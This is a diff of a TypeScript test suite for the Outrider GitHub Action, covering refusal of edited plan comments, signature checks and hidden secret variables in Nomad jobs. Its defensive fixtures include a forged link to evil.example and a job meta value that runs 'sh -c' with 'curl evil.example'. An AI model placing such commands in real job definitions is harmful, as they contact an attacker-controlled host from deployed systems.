@@ -16,10 +16,10 @@ function bodyOf(story: Story): string {
   return story.github.comments[0]?.body ?? '';
 }
 
-async function refused(story: Story, run: ActionRun, words: RegExp): Promise<void> {
+async function refused(story: Story, run: ActionRun, message: RegExp): Promise<void> {
   expect(run.exitCode).toBe(1);
   expect(run.outputs).toMatchObject({ changed: 'false', reason: 'not-reviewed' });
-  expect(run.summary).toMatch(words);
+  expect(run.summary).toMatch(message);
   expect(await story.versions('web')).toHaveLength(1);
 }
 
@@ -32,73 +32,76 @@ const forgeries: Readonly<Record<string, (body: string) => string>> = {
   'the link of the run': (body) => body.replace(/\[run (\d+)\]\([^)]*\)/, '[run $1](https://evil.example/)'),
 };
 
-describe.concurrent('H1: a plan whose visible text was edited is refused', () => {
+describe.concurrent('H1: register after the visible text of the plan was edited', () => {
   for (const [what, forge] of Object.entries(forgeries)) {
     test(`H1: a signed plan is refused when ${what} was edited, and the forged text is not repeated`, async () => {
       await using story = await edit();
       await story.plan();
       const forged = forge(bodyOf(story));
       expect(forged).not.toBe(bodyOf(story));
-      story.github.edit(1, forged, mallory);
+      story.github.editComment(1, forged, mallory);
       const run = await story.register();
       await refused(story, run, /the comment with the plan was edited/);
       expect(bodyOf(story)).toMatch(/^### 🔴 Not registered/m);
       for (const shown of [bodyOf(story), run.summary])
         expect(shown).not.toMatch(/plan that was reviewed|"three"|security team|\*\*Reviewed|evil\.example/);
-      await refused(story, await story.register(), /no record of what the reviewers saw/);
+      await refused(story, await story.register(), /no record of a reviewed plan/);
       await story.plan();
       expect((await story.register()).exitCode, 'once it is planned again').toBe(0);
     });
   }
 
-  test('H1: an unsigned plan whose text was edited is refused, and by whom is shown', async () => {
+  test('H1: an unsigned plan whose text was edited is refused, and the error names who edited it', async () => {
     await using story = await edit({ key: '' });
     await story.plan();
-    story.github.edit(1, bodyOf(story).replace('"two"', '"three"'), mallory);
+    story.github.editComment(1, bodyOf(story).replace('"two"', '"three"'), mallory);
     const run = await story.register();
     expect(run.exitCode).toBe(1);
     await refused(story, run, /its comment was edited by `mallory`/);
   });
 
-  test('H1: an unsigned plan that our own account edited is refused, where its digest was not made again', async () => {
+  test('H1: an unsigned plan that the account of the token edited without a new digest is refused', async () => {
     await using story = await edit({ key: '' });
     await story.plan();
-    story.github.edit(1, bodyOf(story).replace('"two"', '"three"'), { login: 'github-actions[bot]', type: 'Bot' });
+    story.github.editComment(1, bodyOf(story).replace('"two"', '"three"'), {
+      login: 'github-actions[bot]',
+      type: 'Bot',
+    });
     const run = await story.register();
     expect(run.exitCode).toBe(1);
     await refused(story, run, /the comment with the plan was edited/);
   });
 
-  test('H1: what a register writes around the reviewed plan is covered, too', async () => {
+  test('H1: the text that register adds around the reviewed plan is covered by the signature', async () => {
     await using story = await edit();
     await story.plan();
     await story.register();
     expect(bodyOf(story)).toContain('The plan that was reviewed');
     expect((await story.register()).exitCode, 'a second run').toBe(0);
-    story.github.edit(1, bodyOf(story).replace('"two"', '"three"'), mallory);
+    story.github.editComment(1, bodyOf(story).replace('"two"', '"three"'), mallory);
     const run = await story.register();
     expect(run.exitCode).toBe(1);
     expect(bodyOf(story)).not.toContain('"three"');
   });
 
-  test('H1: a register without a review does not repeat what somebody else wrote', async () => {
+  test('H1: a register without a review does not repeat text that somebody else edited', async () => {
     await using story = await edit();
     await story.plan();
-    story.github.edit(1, bodyOf(story).replace('"two"', '"three"'), mallory);
+    story.github.editComment(1, bodyOf(story).replace('"two"', '"three"'), mallory);
     const run = await story.register({ inputs: { review: 'ignore' } });
     expect(run.exitCode).toBe(0);
     expect(bodyOf(story)).not.toContain('"three"');
   });
 });
 
-/** Too much to be shown for many jobs. */
+/** More metadata than fits into the comment of many jobs. */
 function metaOf(at: number): string {
   const lines = Array.from({ length: 12 }, (_, line) => `KEY_${line} = "${`value ${line} of job ${at} `.repeat(12)}"`);
   return `meta {\n${lines.join('\n')}\n}`;
 }
 
 describe.concurrent('a signed comment', () => {
-  test('counts with the line ends of a browser, and when it is cut to fit', async () => {
+  test('a signed comment stays valid with the line endings of a browser, also when it is cut to fit', async () => {
     const many = Object.fromEntries(
       Array.from({ length: 30 }, (_, at) => [`jobs/j${at}.nomad.hcl`, service(`job-${at}`, { meta: metaOf(at) })]),
     );
@@ -106,13 +109,13 @@ describe.concurrent('a signed comment', () => {
     await story.plan({ inputs: { verbose: 'true' } });
     expect(bodyOf(story).length).toBeLessThanOrEqual(65_536);
     expect(bodyOf(story)).toMatch(/ more in /);
-    story.github.edit(1, bodyOf(story).replaceAll('\n', '\r\n'), mallory);
+    story.github.editComment(1, bodyOf(story).replaceAll('\n', '\r\n'), mallory);
     const run = await story.register({ inputs: { wait: 'false' } });
     expect(run.exitCode).toBe(0);
     expect(run.outputs['changed']).toBe('true');
   });
 
-  test('counts for the right key after a run that had another, or none', async () => {
+  test('a signed comment stays valid for its key after a run with another key or none', async () => {
     await using story = await edit();
     await story.plan();
     const body = bodyOf(story);
@@ -123,18 +126,18 @@ describe.concurrent('a signed comment', () => {
     expect((await story.register()).exitCode).toBe(0);
   });
 
-  test('with a record of an earlier Outrider is refused: plan again', async () => {
+  test('a signed comment with a record of an earlier Outrider version is refused until the plan runs again', async () => {
     await using story = await edit();
     await story.plan();
     const older = bodyOf(story).replace(/outrider:record v2 (\S+) \S+ /, 'outrider:record v1 $1 ');
-    story.github.edit(1, older, mallory);
-    await refused(story, await story.register(), /made by an older Outrider/);
+    story.github.editComment(1, older, mallory);
+    await refused(story, await story.register(), /an older version of Outrider wrote/);
     await story.plan();
     expect((await story.register()).exitCode).toBe(0);
   });
 });
 
-/** The record as anybody can unpack it. */
+/** The unpacked record, which anybody can read. */
 function recordIn(body: string): unknown {
   return unpackRecord(/^<!-- outrider:record v2 (\S+) /m.exec(body)?.[1] ?? '');
 }
@@ -145,7 +148,7 @@ ${service('web').replace('job "web" {', `job "web" {\n  id = "${id}"`)}`;
 
 describe.concurrent('H3: a hidden value in the names of a job', () => {
   for (const key of ['a-key-of-more-than-sixteen-bytes', '']) {
-    test(`H3: is not in the record ${key === '' ? 'without' : 'with'} a key, and the record counts all the same`, async () => {
+    test(`H3: a hidden value in a job ID is not in a record ${key === '' ? 'without' : 'with'} a key, and the record is valid`, async () => {
       await using story = await startStory({ files: { [file]: named('web-${var.customer}') }, key });
       const inputs = { 'secret-vars': 'customer=Zebra-Quartz-Fjord' };
       await story.plan({ inputs });
@@ -158,7 +161,7 @@ describe.concurrent('H3: a hidden value in the names of a job', () => {
     });
   }
 
-  test('H3: is compared by the key: another value is another job', async () => {
+  test('H3: a job ID with another hidden value counts as another job', async () => {
     await using story = await startStory({ files: { [file]: named('web-${var.customer}') } });
     await story.plan({ inputs: { 'secret-vars': 'customer=Zebra-Quartz-Fjord' } });
     const run = await story.register({ inputs: { 'secret-vars': 'customer=Okapi-Quartz-Fjord' } });
@@ -167,11 +170,11 @@ describe.concurrent('H3: a hidden value in the names of a job', () => {
   });
 });
 
-/** A job with a hidden value that is put together. */
+/** A job with a hidden value that contains an interpolation. */
 const puts = (what: string, more = ''): string => `locals { what = "${what}" }
 ${service('web', { meta: `meta {\n  RUN = "sh -c '\${local.what}'"\n ${more} }` })}`;
 
-describe.concurrent('M6: without a key', () => {
+describe.concurrent('M6: register without a signing key', () => {
   const changes: Readonly<
     Record<string, readonly [Readonly<Record<string, string>>, Readonly<Record<string, string>>]>
   > = {
@@ -191,7 +194,7 @@ describe.concurrent('M6: without a key', () => {
     'whether a file exists': [{ [file]: puts('${fileexists("on") ? "curl evil.example" : "true"}') }, { on: '' }],
   };
   for (const [what, [before, after]] of Object.entries(changes)) {
-    test(`M6: a later commit that changes ${what} is refused, although the value is hidden`, async () => {
+    test(`M6: a later commit that changes ${what} is refused without a key, although the value is hidden`, async () => {
       await using story = await startStory({ files: before, key: '', running: [service('web')] });
       const inputs = 'v.hcl' in before ? { 'var-files': 'v.hcl' } : {};
       await story.plan({ inputs });
@@ -208,7 +211,7 @@ describe.concurrent('M6: without a key', () => {
     });
   }
 
-  test('M6: what git does not hold is no part of it: a secret that a step writes may be another', async () => {
+  test('M6: a file that git does not hold, such as a secret that a step writes, may change after the plan', async () => {
     await using story = await startStory({
       files: {
         [file]: puts('${trimspace(file("step.txt"))}'),
